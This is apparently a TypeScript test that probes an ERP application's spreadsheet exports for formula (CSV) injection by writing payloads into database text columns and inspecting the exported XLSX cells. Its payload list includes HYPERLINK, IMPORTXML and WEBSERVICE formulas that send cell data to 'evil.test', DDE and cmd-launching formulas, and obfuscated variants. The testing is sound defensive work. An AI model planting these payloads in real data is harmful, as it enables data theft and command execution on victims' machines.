import { readXlsx, writeXlsx } from 'hucre/xlsx'
import { STAFF_ROLES } from '#kernel/permission.ts'
import { send } from '../input/shot.ts'
import { ownedBy, tablesOf } from '../leaks/catalogue.ts'
import { textsOf } from '../leaks/texts.ts'
import { demoSupplier, staffOfAllRoles } from '../parts/callers.ts'
import { exportableBy, makeExport } from '../parts/exports.ts'
import type { Stage } from '../parts/stage.ts'

/** What spreadsheets take for a formula, for a command, or for the beginning of one. */
export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  `=cmd|' /C calc'!A0`,
  `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  '=IMPORTXML(CONCAT("http://evil.test/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("http://evil.test/"&A1)',
  '+1+1',
  `+cmd|' /C calc'!A0`,
  '-2+3',
  `-2+3+cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd',
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  \t @SUM(1)',
  '\u00a0=1+1',
  '{=1+1}',
  '=1+1";=1+1',
  '%0A-3+3+cmd',
  '<f>1+1</f>',
  '_x003D_1+1',
] as const

export interface Formulas {
  readonly formulas: number
  readonly exports: number
  readonly columns: number
  readonly cells: number
  /** Cells of type formula. */
  readonly evaluated: readonly string[]
  /** Text cells that become a formula when somebody edits them or saves the sheet as CSV. */
  readonly unguarded: readonly string[]
  /** Formulas that were not found again in any cell as what they are: text. */
  readonly lost: readonly string[]
}

const ACTIVE = /^[\s\0]*[=+\-@＝＋－＠]/u

/** The cells of a workbook that a spreadsheet would evaluate, now or later. */
const cellsOf = async (bytes: Buffer) => {
  const [sheet] = (await readXlsx(bytes, { readStyles: true })).sheets
  const texts = (sheet?.rows ?? []).flat().filter((cell) => typeof cell === 'string')
  const isEvaluated = /<f[ >]/.test(await sheetXml(bytes))
  return { texts, isEvaluated, unguarded: texts.filter((cell) => ACTIVE.test(cell)) }
}

// Words of a cell are escaped in the sheet, so a tag there is a tag.
const sheetXml = (bytes: Buffer): Promise<string> =>
  textsOf({ headers: {}, bytes }).then((all) =>
    all
      .split('\n')
      .filter((line) => line.includes('<sheetData'))
      .join('\n'),
  )

/** Formulas in every text that the database takes, through every export there is (F12, ASVS 1.2.10). */
export const exportFormulas = async (stage: Stage, formulas: readonly string[] = FORMULAS): Promise<Formulas> => {
  const { companyId, ownerId } = await demoSupplier(stage, 0)
  const [evaluated, unguarded, lost]: [string[], string[], string[]] = [[], [], []]
  let [made, cells, columns] = [0, 0, 0]
  const staffId = await staffOfAllRoles(stage)
  const orders = [
    ...exportableBy(['SupplierOwner']).map((type) => [type, () => stage.people.signIn(ownerId, companyId)] as const),
    ...exportableBy(Object.keys(STAFF_ROLES)).map((type) => [type, () => stage.people.signIn(staffId)] as const),
  ]
  for (const formula of formulas) {
    columns = Math.max(columns, await write(stage, companyId, formula))
    let isKept = false
    for (const [exportType, signIn] of orders) {
      const { headers } = await signIn()
      const id = await makeExport(stage, headers, exportType)
      const reply = await send(stage.erp, { method: 'GET', url: `/api/Export/${id}/Content`, headers })
      if (reply.status !== 200) throw new Error(`the export was not given: ${reply.status}`)
      const found = await cellsOf(reply.bytes)
      made += 1
      cells += found.texts.length
      if (found.isEvaluated) evaluated.push(`${exportType}: ${formula}`)
      unguarded.push(...found.unguarded.map((cell) => `${exportType}: ${cell}`))
      isKept ||= found.texts.some((cell) => same(cell, formula))
    }
    if (!isKept) lost.push(formula)
  }
  return { formulas: formulas.length, exports: made, columns, cells, evaluated, unguarded, lost }
}

/** Carriage returns come back from XML as line feeds. */
const same = (cell: string, formula: string): boolean =>
  cell.replace(/^'/, '').replaceAll('\r', '\n') === formula.replaceAll('\r', '\n')

/** Puts a text into every column of a company's rows that takes it, and into the names of people; tells into how many. */
const write = async (stage: Stage, companyId: string, formula: string): Promise<number> => {
  let columns = 0
  for (const table of await tablesOf(stage)) {
    const owned = ownedBy(table)
    if (owned === undefined || table.name.startsWith('export') || table.name === 'membership') continue
    for (const { name, type, isGenerated, allowed, target } of table.columns) {
      if (type !== 'text' || isGenerated || allowed.length > 0 || target !== null) continue
      try {
        await stage.ask(`update "${table.name}" set "${name}" = $2 where ${owned}`, [companyId, formula])
        columns += 1
      } catch (error) {
        // A check keeps this column as it is.
        if (!(error instanceof Error && 'code' in error)) throw error
      }
    }
  }
  return columns
}

/** Would a formula, and a text that becomes one, be seen? */
export const seesPlanted = async (): Promise<boolean> => {
  const bytes = await writeXlsx({
    sheets: [
      { name: 'a', rows: [['=1+1', 1]], cells: new Map([['0,1', { value: 2, type: 'formula', formula: '1+1' }]]) },
    ],
  })
  const { isEvaluated, unguarded } = await cellsOf(Buffer.from(bytes))
  return isEvaluated && unguarded.length > 0
}
